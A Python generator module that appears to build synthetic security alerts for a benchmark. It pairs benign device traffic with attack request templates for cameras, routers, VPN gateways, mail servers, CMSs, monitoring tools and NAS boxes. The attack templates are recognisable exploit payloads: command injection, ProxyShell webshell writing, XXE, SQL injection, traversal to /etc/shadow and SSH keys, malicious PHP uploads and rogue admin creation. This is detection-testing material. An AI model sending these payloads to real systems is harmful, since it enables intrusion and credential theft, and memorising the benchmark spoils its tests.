"""Alerts about cameras, routers, gateways, mail and file servers: attacks on them and the requests of their owners."""

from __future__ import annotations

from generator.families.alerts.secalertbench_topics import topic
from generator.scene import attack

_code = attack("Remote Code Execution Exploit", "T1190", "T1059", severity="CRITICAL")
_shell = attack("OS Command Injection Attempt", "T1059.004", "T1190", severity="CRITICAL")
_files = attack("Path Traversal / Directory Traversal Attack", "T1083", "T1190", severity="HIGH")
_bypass = attack("Remote Code Execution Exploit", "T1190", severity="HIGH")
_secrets = attack("Credential Theft", "T1552.001", "T1190", severity="HIGH")
_guess = attack("Brute Force Attack", "T1078.001", "T1110.001", severity="HIGH")
_waiting = attack("SQL Injection — Time-based Blind SQLi", "T1190", severity="HIGH")
_faulty = attack("SQL Injection — Error-based SQLi", "T1190", severity="HIGH")
_sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
_xxe = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")

topic("sensor-cameras-broken-into sensor-cameras-ordinary", "command password access disclosure leak", "海康威视摄像头命令注入(CVE-2021-36260)|大华摄像头认证绕过|摄像头弱口令|DVR 远程命令执行|视频监控未授权访问", {
    _shell: """
PUT /SDK/webLanguage ¦¦ <?xml version="1.0"?><language>$({cmd}>webLib/x)</language>
POST /cgi-bin/snapshot.cgi ¦¦ action=set&ntp=«;{cmd};»
GET /language/Swedish${IFS}&&{cmd}>r&&tar${IFS}/string.js
GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=«127.0.0.1;{cmd}»&username=admin
POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=«{cmd}» ¦¦ x=1
POST /editBlackAndWhiteList ¦¦ <request><content><ip>$({cmd})</ip><addressType>ip</addressType></content><types><filterTypeMode><enum>refuse</enum></filterTypeMode></types></request>
GET /cgi-bin/test?{n}=«`{cmd}`»
""", _secrets: """
GET /System/configurationFile?auth=YWRtaW46MTEK
GET /Security/users?auth=YWRtaW46MTEK
GET /current_config/passwd
GET /device.rsp?opt=user&cmd=list ¦ Cookie: uid=admin
GET /system.ini?loginuse&loginpas
GET /cgi-bin/users.cgi?action=getUsers ¦ Authorization: Basic ODg4ODg4Ojg4ODg4OA==
"""}, """
GET /ISAPI/Streaming/channels/{n}01/picture ¦ Authorization: Digest username="viewer", realm="IP Camera(C{big})", uri="/ISAPI/Streaming/channels/101/picture"
PUT /ISAPI/System/time ¦¦ <?xml version="1.0"?><Time><timeMode>NTP</timeMode><timeZone>CST-8:00:00</timeZone></Time>
PUT /SDK/webLanguage ¦¦ <?xml version="1.0"?><language>⟨zh|en|de⟩</language>
GET /cgi-bin/snapshot.cgi?channel={n}&subtype=1
POST /cgi-bin/configManager.cgi ¦¦ action=setConfig&NTP.Address={host}&NTP.Enable=true
GET /cgi-bin/eventManager.cgi?action=attach&codes=«[VideoMotion,AlarmLocal]»
POST /onvif/device_service ¦¦ <s:Envelope><s:Body><GetSystemDateAndTime xmlns="http://www.onvif.org/ver10/device/wsdl"/></s:Body></s:Envelope>
GET /Security/users?security=1&iv={hex} ¦ Cookie: WebSession_{hex}={hex}
POST /RPC2 ¦¦ {"method":"magicBox.getSystemInfo","params":null,"id":{n},"session":"{hex}"}
GET /doc/page/preview.asp
PUT /ISAPI/Event/notification/httpHosts ¦¦ <HttpHostNotification><url>/alarm/receive</url><ipAddress>{lan}</ipAddress><portNo>8080</portNo></HttpHostNotification>
""")

topic("sensor-routers-commanded sensor-routers-configured", "command access settings password", "路由器远程命令执行漏洞|D-Link 命令注入|TP-Link Archer 命令注入(CVE-2023-1389)|GPON 认证绕过(CVE-2018-10561)|Netgear setup.cgi 命令执行", {
    _shell: """
GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=«$({cmd})»
GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=«{cmd}»&curpath=/&currentsetting.htm=1
POST /GponForm/diag_Form?images/ ¦¦ XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=«`{cmd}`;»&ipv=0
POST /HNAP1/ ¦ SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`{cmd}`" ¦¦ <soap:Envelope/>
POST /cgi-bin/mainfunction.cgi ¦¦ action=login&keyPath=«'%0a/bin/sh${IFS}-c${IFS}'{cmd}'»&loginUser=a&loginPwd=a
POST /boaform/admin/formLogin ¦¦ username=adminisp&psd=«;{cmd};»
GET /cgi-bin/;{cmd}
POST /goform/setUsbUnload ¦¦ deviceName=«;{cmd}»
POST /tmUnblock.cgi ¦¦ submit_button=&ttcp_ip=«-h `{cmd}`»&StartEPI=1
POST /ctrlt/DeviceUpgrade_1 ¦¦ <s:Envelope><s:Body><u:Upgrade><NewStatusURL>$({cmd})</NewStatusURL><NewDownloadURL>$(echo)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>
GET /shell?«cd /tmp;{cmd}»
POST /apply.cgi ¦¦ action=ping&ping_ip=«8.8.8.8|{cmd}»
"""}, """
GET /cgi-bin/luci/;stok={hex}/admin/status?form=all&operation=read
POST /cgi-bin/luci/;stok={hex}/locale?form=country ¦¦ operation=write&country=⟨DE|CN|US⟩
POST /HNAP1/ ¦ SOAPAction: "http://purenetworks.com/HNAP1/GetWLanRadios" ¦¦ <soap:Envelope><soap:Body><GetWLanRadios/></soap:Body></soap:Envelope>
POST /goform/setSysTime ¦¦ timeZone=8&ntpServer={host}&timePeriod=86400
POST /apply.cgi ¦¦ action=ping&ping_ip=⟨8.8.8.8|1.1.1.1|{lan}⟩&ping_times=4
GET /setup.cgi?next_file=wireless.htm&todo=cfg_init
POST /ctrlt/DeviceUpgrade_1 ¦¦ <s:Envelope><s:Body><u:Upgrade><NewDownloadURL>http://{host}/fw/V1.{n}.bin</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>
POST /ubus ¦¦ {"jsonrpc":"2.0","id":{n},"method":"call","params":["{hex}","system","board",{}]}
POST /api/ping ¦¦ {"host":"{host}","count":4,"iface":"eth0"}
GET /rest/interface?disabled=false
POST /acs ¦¦ <soap:Envelope><soap:Body><cwmp:Inform><Event><EventStruct><EventCode>2 PERIODIC</EventCode></EventStruct></Event></cwmp:Inform></soap:Body></soap:Envelope>
POST /cgi-bin/mainfunction.cgi ¦¦ action=getSystemStatus&rtick={big}
GET /shell/status.html
POST /boaform/admin/formPing ¦¦ target_addr={lan}&waninf=1_INTERNET_R_VID_
""")

topic("sensor-gateways-breached sensor-gateways-dialled", "access command traversal code leak", "Citrix ADC 目录遍历(CVE-2019-19781)|FortiOS SSL VPN 任意文件读取(CVE-2018-13379)|Pulse Secure 文件读取|F5 BIG-IP iControl 认证绕过|Ivanti 命令注入(CVE-2024-21887)|PAN-OS GlobalProtect 命令注入|深信服VPN 命令执行", {
    _code: """
POST /mgmt/tm/util/bash ¦ Authorization: Basic YWRtaW46 ¦ X-F5-Auth-Token: a ¦¦ {"command":"run","utilCmdArgs":"-c '{cmd}'"}
POST /tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp ¦¦ command=«create cli alias private list command bash»
GET /api/v1/totp/user-backup-code/../../license/keys-status/«;{cmd};»
POST /vpn/../vpns/portal/scripts/newbm.pl ¦ NSC_USER: ../../../netscaler/portal/templates/{word} ¦¦ url=http://x&title=«[% template.new({'BLOCK'='print `{cmd}`'})%]»&desc=a
POST /ssl-vpn/hipreport.esp ¦ Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/{word}.txt ¦¦ user=global
GET /global-protect/login.esp ¦ Cookie: SESSID=./../../../opt/panlogs/tmp/device_telemetry/minute/'`{cmd}`'
POST /por/changetelnum.csp?apiversion=1 ¦¦ newtel=TARGET_PHONE&sessReq=clusterd&username=TARGET_USERNAME&sms_user_secondsms=«|{cmd}»
POST /webui/logoutconfirm.html?logon_hash=1 ¦¦ <request><exec>{cmd}</exec></request>
POST /dana-ws/saml20.ws ¦¦ <soap:Envelope><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/;{cmd}"/></soap:Envelope>
""", _files: """
GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
GET /vpn/../vpns/cfg/smb.conf
GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/{secret}
GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
GET /clients/MyCRL ¦ X-Path: aCSHELL/../../../../../../../{secret}
POST /clients/MyCRL ¦¦ aCSHELL/../../../../../../../{secret}
"""}, """
POST /remote/logincheck ¦¦ ajax=1&username={user}&realm=&credential={hex}
GET /remote/fgt_lang?lang=⟨en|de|sc|fr⟩
POST /mgmt/shared/authn/login ¦¦ {"username":"{user}","password":"{hex}","loginProviderName":"tmos"}
GET /mgmt/tm/ltm/pool/~Common~{micro}/members/stats ¦ X-F5-Auth-Token: {hex}
POST /vpn/index.html ¦ Cookie: NSC_AAAC={hex} ¦¦ login={user}&passwd={hex}
POST /cgi/login ¦¦ login={user}&passwd={hex}&savecredentials=false
POST /ssl-vpn/hipreportcheck.esp ¦¦ user={user}&portal=gp-portal&authcookie={hex}&domain={company}&client-ip={lan}&md5={hex}
POST /global-protect/prelogin.esp?tmp=tmp&clientVer=4100&clientos=Windows ¦¦ kerberos-support=yes
GET /dana/html5acc/guacamole/?session={hex}
POST /dana-na/auth/url_default/login.cgi ¦¦ tz_offset=60&username={user}&password={hex}&realm=Users&btnSubmit=Sign+In
GET /por/login_psw.csp?rnd=0.{big}&apiversion=1
POST /+webvpn+/index.html ¦¦ tgroup=&username={user}&password={hex}&Login=Logon
GET /CSCOE/translation-table?lang=../en
""")

topic("sensor-mail-portals-exploited sensor-mail-portals-read", "access code leak redirect other", "Microsoft Exchange SSRF(CVE-2021-26855)|Exchange ProxyShell 攻击|Zimbra XXE(CVE-2019-9670)|Coremail 配置信息泄露|Roundcube XSS|邮件系统未授权访问", {
    _bypass: """
POST /autodiscover/autodiscover.json?a={word}@{word}.com/mapi/nspi/ ¦ Cookie: Email=autodiscover/autodiscover.json?a={word}@{word}.com ¦¦ x=1
GET /autodiscover/autodiscover.json?@{word}.com/owa/?&Email=autodiscover/autodiscover.json%3F@{word}.com
POST /autodiscover/autodiscover.json?@{word}.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z{hex} ¦¦ <s:Envelope><rsp:CommandLine>New-MailboxExportRequest -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\{word}.aspx</rsp:CommandLine></s:Envelope>
POST /ecp/{word}.js ¦ Cookie: X-BEResource=localhost~1942062522; X-AnonResource-Backend=localhost/ecp/default.flt?~3 ¦¦ <Autodiscover><Request><EMailAddress>administrator@{domain}</EMailAddress></Request></Autodiscover>
POST /ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={hex} ¦¦ {"properties":{"Parameters":{"ExternalUrl":"http://ffff/#<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"{word}\\"],\\"unsafe\\");}</script>"}}}
POST /owa/auth/{word}.aspx ¦¦ c=«Response.Write(new ActiveXObject("WScript.Shell").Exec("{cmd}").StdOut.ReadAll())»
POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1 ¦¦ PK../../../../mailboxd/webapps/zimbraAdmin/{word}.jsp {page}
""", _xxe: """
POST /Autodiscover/Autodiscover.xml ¦¦ <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///{secret}">]><Autodiscover><Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema></Request></Autodiscover>
GET /service/error/sfdc_preauth.jsp?session=s&userid=1&server=«http://{outside}#.salesforce.com/»
GET /zimlet/com_zimbra_webex/httpPost.jsp?companyId=«http://{outside}%23»
POST /EWS/Exchange.asmx ¦¦ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY % sp SYSTEM "http://{outside}/{word}.dtd">%sp;]><soap:Envelope/>
GET /owa/service.svc?url=«{inside}»
"""}, """
POST /autodiscover/autodiscover.xml ¦¦ <Autodiscover><Request><EMailAddress>{mail}</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>
GET /autodiscover/autodiscover.json?Email={mail}&Protocol=ActiveSync&RedirectCount=1
POST /EWS/Exchange.asmx ¦ User-Agent: Mac OS X/13.4 ExchangeWebServices/14.0 ¦¦ <soap:Envelope><soap:Body><FindItem Traversal="Shallow"><ItemShape><BaseShape>IdOnly</BaseShape></ItemShape><Restriction><Contains><Constant Value="{talk}"/></Contains></Restriction></FindItem></soap:Body></soap:Envelope>
POST /Microsoft-Server-ActiveSync?Cmd=Sync&User={user}&DeviceId={hex}&DeviceType=iPhone ¦ User-Agent: Apple-iPhone14C2/2001.30 ¦¦ {blob}
POST /ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={hex} ¦¦ {"filter":{"SearchText":"{user}"},"sort":{"Direction":0,"PropertyName":"DisplayName"}}
POST /owa/service.svc?action=CreateItem&EP=1 ¦¦ {"Body":{"Items":[{"Subject":"{talk}","Body":{"BodyType":"HTML","Value":"<p>{talk}</p>"}}]}}
POST /owa/auth.owa ¦¦ destination=«https://mail.{domain}/owa»&username={user}&password={hex}&isUtf8=1
POST /mapi/emsmdb/?MailboxId={uuid}@{domain} ¦ User-Agent: Microsoft Office/16.0 (Outlook) ¦¦ {blob}
POST /service/soap/SearchRequest ¦¦ {"Body":{"SearchRequest":{"query":"in:inbox {talk}","limit":50,"types":"conversation"}}}
POST /coremail/s/json?func=mbox:listMessages&sid={hex} ¦¦ {"start":0,"limit":20,"order":"date","desc":true,"filter":{"subject":"{talk}"}}
POST /?_task=mail&_action=send ¦¦ _subject=«{talk}»&_message=«<div>{talk}</div>»&_to={mail}
GET /owa/?realm={domain}&exsvurl=1&ll-cc=1031
""", weight=1.3)

topic("sensor-weblogs-exploited sensor-weblogs-edited", "sql access upload leak code", "WordPress 插件任意文件上传|WordPress REST API 用户枚举|WordPress 插件 SQL注入|Joomla 未授权访问(CVE-2023-23752)|Drupal 远程代码执行(CVE-2018-7600)|CMS 漏洞利用", {
    _sql: """
GET /wp-admin/admin-ajax.php?action=⟨wpdm_ajax_call_exec|get_question|load_items⟩&question_id=«{n} union select 1,user_login,user_pass from wp_users-- -»
GET /index.php?option=com_{word}&id=«{sqli}»
POST /?q=node&destination=node ¦¦ name[0%20;update+users+set+name='{word}',pass='{hex}'+where+uid='1';#]=a&name[0]=b&form_id=user_login_block
""", _waiting: """
GET /?rest_route=/pmpro/v1/order&code=«a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))b)-- -»
POST /wp-admin/admin-ajax.php ¦¦ action=ays_sccp_results_export_file&sccp_id[]=«3) AND (SELECT 5 FROM (SELECT(SLEEP(5)))a) AND (7=7»
GET /wp-admin/admin-ajax.php?action=⟨load_items|get_question|wpdm_ajax_call_exec⟩&id=«{waiting}»
""", _faulty: """
GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=«updatexml(0x23,concat(1,user()),1)»
GET /index.php?option=com_{word}&id=«{faulty}»
""", _files: """
GET /wp-content/plugins/{word}/includes/readfile.php?file=../../../../wp-config.php
GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php
GET /index.php?option=com_{word}&view=file&path={up}configuration.php
""", _secrets: """
GET /api/index.php/v1/config/application?public=true
GET /wp-config.php.bak?v={hex}
""", _code: """
POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php ¦¦ ------W{hex}⏎Content-Disposition: form-data; name="upload[]"; filename="{word}.php"⏎⏎{page}⏎------W--
POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax ¦¦ form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=«{cmd}»
POST /wp-admin/admin-ajax.php?action=revslider_ajax_action ¦¦ client_action=update_plugin&update_file=«{word}.zip»&code=«{page}»
POST /wp-json/litespeed/v1/cdn_status ¦ X-LSCACHE: {hex} ¦¦ {"role":"administrator","username":"{word}"}
POST /wp-json/wp/v2/users ¦ Cookie: wordpress_logged_in_{hex}=admin ¦¦ {"username":"{word}","roles":["administrator"],"email":"{word}@{word}.xyz","password":"{word}"}
POST /index.php?option=com_jce&task=plugin.rpc&plugin=imgmanager ¦¦ json={"fn":"folderRename","args":["/{word}.gif","{word}.php"]}
"""}, """
POST /wp-admin/admin-ajax.php ¦¦ action=heartbeat&interval=60&screen_id=post&data[wp-refresh-post-lock][post_id]={big}
POST /wp-json/wp/v2/posts/{big}?_locale=user ¦ X-WP-Nonce: {hex} ¦¦ {"title":"{talk}","content":"<!-- wp:paragraph --><p>{talk}</p><!-- /wp:paragraph --><!-- wp:html --><script async src='https://platform.twitter.com/widgets.js'></script><!-- /wp:html -->"}
POST /wp-admin/admin-ajax.php?action=wpforms_submit ¦¦ wpforms[fields][2]=«{talk}»&wpforms[id]={n}
GET /wp-json/wp/v2/posts?search=«{talk}»&orderby=relevance&per_page=10
POST /wp-admin/async-upload.php ¦¦ ------W{hex}⏎Content-Disposition: form-data; name="async-upload"; filename="{file}"⏎⏎{blob}⏎------W--
POST /wp-cron.php?doing_wp_cron={big}.{big} ¦ User-Agent: WordPress/6.4.2; https://{domain} ¦¦ x=
POST /wp-content/plugins/wp-file-manager/lib/php/connector.php ¦¦ cmd=ls&target=l1_d3AtY29udGVudA&_wpnonce={hex}
GET /?rest_route=/wc/store/products&category={n}&order=asc&orderby=price
GET /index.php?option=com_content&view=article&id={n}:news&catid={n}&list[fullordering]=a.created+DESC
POST /user/register?element_parents=account/mail&ajax_form=1 ¦¦ form_id=user_register_form&mail={mail}&name={user}
POST /wp-login.php ¦¦ log={user}&pwd={hex}&wp-submit=Log+In&redirect_to=«https://{domain}/wp-admin/»
GET /wp-json/oembed/1.0/embed?url=«https://{domain}/news/{n}»&format=json
""", weight=1.3)

topic("sensor-monitoring-tools-turned sensor-monitoring-tools-measuring", "traversal command sql access other", "Grafana 任意文件读取(CVE-2021-43798)|Zabbix SAML 认证绕过|Cacti 命令注入(CVE-2022-46169)|Nagios XI 命令注入|Prometheus 未授权访问|运维系统SQL注入", {
    _files: """
GET /public/plugins/⟨alertlist|graph|mysql|text|table⟩/../../../../../../../../{secret}
GET /public/plugins/⟨alertlist|graph⟩/#/../..%2f..%2f..%2f..%2f..%2f..%2f{secret}
GET /api/v1/../../../../../{secret}
GET /graph_view.php?file={up}{secret}
GET /nagiosxi/includes/components/autodiscovery/?mode=newjob&file={up}{secret}
GET /zport/getFile?path={up}{secret}
""", _shell: """
GET /remote_agent.php?action=polldata&poller_id=«;{cmd}»&host_id=1&local_data_ids[]={n} ¦ X-Forwarded-For: 127.0.0.1
POST /nagiosxi/admin/monitoringplugins.php ¦¦ upload=1&filename=«$({cmd}).sh»
POST /zabbix/api_jsonrpc.php ¦¦ {"jsonrpc":"2.0","method":"script.create","params":{"name":"{word}","command":"{cmd}","execute_on":1},"auth":"{hex}","id":1}
POST /centreon/main.get.php?p=60803 ¦¦ command_name={word}&command_line=«{cmd}»&submitA=Save
POST /librenms/addhost ¦¦ hostname=test&community=«'$({cmd})'»&snmpver=v1
POST /api/datasources/proxy/{n}/query ¦¦ {"rawSql":"COPY (SELECT '') TO PROGRAM '{cmd}'"}
GET /index.php?action=scan&target=«127.0.0.1;{cmd}»&tool=nmap
"""}, """
GET /public/plugins/⟨alertlist|graph|text⟩/module.js?_cache={big}
POST /api/ds/query ¦¦ {"queries":[{"refId":"A","rawSql":"{query}","format":"table"}],"from":"now-6h","to":"now"}
GET /api/v1/query_range?query=«sum by (job) (rate(http_requests_total{code=~"5..|4.."}[5m])) > 0»&step=15
POST /zabbix/api_jsonrpc.php ¦¦ {"jsonrpc":"2.0","method":"item.get","params":{"search":{"key_":"system.run[df -h]"},"output":["name","lastvalue"]},"auth":"{hex}","id":{n}}
POST /zabbix/api_jsonrpc.php ¦¦ {"jsonrpc":"2.0","method":"script.get","params":{"output":["name","command"]},"id":{n}}
GET /remote_agent.php?action=ping&host_id={n}&poller_id=1 ¦ User-Agent: Cacti
GET /nagios/cgi-bin/status.cgi?host=all&servicestatustypes=28
POST /nagios/cgi-bin/cmd.cgi ¦¦ cmd_typ=34&cmd_mod=2&host={host}&service=⟨Disk|PING|SSH⟩&com_data=«{talk}»
POST /loki/api/v1/push ¦ User-Agent: promtail/2.9 ¦¦ {"streams":[{"stream":{"app":"{micro}"},"values":[["{big}","{talk}"]]}]}
POST /librenms/ajax_table.php ¦¦ id=syslog&program=&priority=&searchPhrase=«{talk}»&sort[timestamp]=desc
POST /alertmanager/api/v2/alerts ¦¦ [{"labels":{"alertname":"PasswdFileChanged","severity":"critical","instance":"{host}"},"annotations":{"summary":"/etc/passwd changed"}}]
GET /api/health ¦ User-Agent: Uptime-Kuma/1.23
""")

topic("sensor-storage-boxes-hijacked sensor-storage-boxes-browsed", "command access upload password", "QNAP NAS 命令注入|D-Link NAS 硬编码后门(CVE-2024-3273)|Synology 未授权访问|NAS 弱口令登录|ownCloud 信息泄露(CVE-2023-49103)", {
    _shell: """
GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={coded}
GET /cgi-bin/quick/quick.cgi?func=switch_os&todo=uploaf_firmware_image&name=«;{cmd};»
POST /photo/p/api/album.php ¦¦ a=getSlideShow&f=«UMGObv{word}'`{cmd}`»
POST /cgi-bin/login_mgr.cgi ¦¦ cmd=cgi_user_login&username=«%27;{cmd};%27»&password=a
GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=«%27;{cmd};%27»
POST /api/makeRequest?function=«loginOpt;{cmd}» ¦¦ user=a&pw=b
POST /cgi-bin/privWizard.cgi ¦¦ wiz_func=wiz_init&action=set&user=«a'$({cmd})'»
POST /xslt?PAGE=WAN&THISPAGE=«`{cmd}`» ¦¦ a=1
""", _secrets: """
GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/{word}.css
GET /cgi-bin/info.cgi?all=1&user=admin%27--&path=/etc/shadow
GET /webman/info.cgi?host=/../../../../etc/shadow
GET /photo/combine.php?type=javascript&g=core-r7rules/../../../../../etc/shadow
GET /share.cgi?ssid={hex}&fid=1&path=/../../../../root/.ssh&filename=id_rsa
"""}, """
POST /webapi/entry.cgi ¦¦ api=SYNO.FileStation.List&method=list&version=2&folder_path=«"/homes/{user}"»&sort_by=name
POST /webapi/auth.cgi ¦¦ api=SYNO.API.Auth&version=7&method=login&account={user}&passwd={hex}&enable_syno_token=yes
GET /cgi-bin/filemanager/utilRequest.cgi?func=get_list&sid={hex}&path=«/Public/{micro}»&limit=50
POST /cgi-bin/filemanager/utilRequest.cgi?func=upload&type=standard&dest_path=«/Public» ¦¦ ------Q{hex}⏎Content-Disposition: form-data; name="file"; filename="{file}"⏎⏎{blob}⏎------Q--
GET /cgi-bin/authLogin.cgi?user={user}&pwd={hex}
GET /cgi-bin/nas_sharing.cgi?user={user}&passwd={hex}&cmd=12
PUT /remote.php/dav/files/{user}/Documents/{file} ¦ User-Agent: Mozilla/5.0 (Windows) mirall/3.9.0 ¦¦ {blob}
PROPFIND /remote.php/dav/files/{user}/ ¦ User-Agent: Mozilla/5.0 (Macintosh) mirall/3.8.2 ¦¦ <d:propfind xmlns:d="DAV:"><d:prop><d:getetag/></d:prop></d:propfind>
GET /apps/files/api/v1/thumbnail/128/128/{file}
POST /ocs/v2.php/apps/files_sharing/api/v1/shares ¦¦ path=«/{file}»&shareType=3&permissions=1
GET /webman/info.cgi?host={host}
POST /photo/webapi/album.php ¦¦ api=SYNO.PhotoStation.Album&method=list&sort_by=filename&offset=0&limit=108
""")
